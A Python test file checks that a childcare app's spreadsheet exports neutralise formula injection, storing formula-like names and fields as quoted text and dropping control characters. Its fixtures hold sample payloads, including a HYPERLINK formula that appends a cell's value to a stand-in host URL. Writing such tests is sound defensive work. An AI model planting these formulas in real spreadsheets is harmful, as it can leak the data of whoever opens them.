"""The childcare exports (institutions, children, staff) write what people typed through
core's one door for cells (issue 11 items 3 and 4): formula-like text as text, stored control
characters dropped."""

from __future__ import annotations

import io

from openpyxl import load_workbook

from huimin.childcare.models import Enrollment, Institution, Staff
from huimin.core.models import Person


def _rows(response) -> list[list]:
    assert response.status_code == 200
    return [list(r) for r in load_workbook(io.BytesIO(response.content)).active.iter_rows()][1:]


def _as_text(cell, value: str) -> None:
    assert (cell.value, cell.data_type, cell.quotePrefix) == (value, "s", True)


def test_the_institution_export_writes_formulas_as_text(client, yanhu_official, institution):
    Institution.objects.filter(pk=institution.pk).update(
        name='=HYPERLINK("http://x.invalid/?"&A1,"点此")',
        address="北城\x1b街道1号",
        legal_person="@SUM(A1)",
    )
    client.force_login(yanhu_official)

    (row,) = _rows(client.get("/childcare/institutions/export.xlsx"))

    _as_text(row[0], '=HYPERLINK("http://x.invalid/?"&A1,"点此")')
    assert row[-2].value == "北城街道1号"
    _as_text(row[-1], "@SUM(A1)")


def test_the_children_and_staff_exports_write_formulas_as_text(
    client, operator, institution, toddler_class, enrol
):
    enrollment = enrol(toddler_class)
    Person.objects.filter(pk=enrollment.child_id).update(name="-2+3")
    Enrollment.objects.filter(pk=enrollment.pk).update(guardian_relation="+母亲")
    Staff.objects.filter(institution=institution).update(qualification="=1+1\x01")
    client.force_login(operator)

    children = _rows(client.get(f"/childcare/institutions/{institution.pk}/children.xlsx"))
    staff = _rows(client.get(f"/childcare/institutions/{institution.pk}/staff.xlsx"))

    _as_text(children[0][0], "-2+3")
    _as_text(children[0][8], "+母亲")
    for row in staff:
        _as_text(row[4], "=1+1")
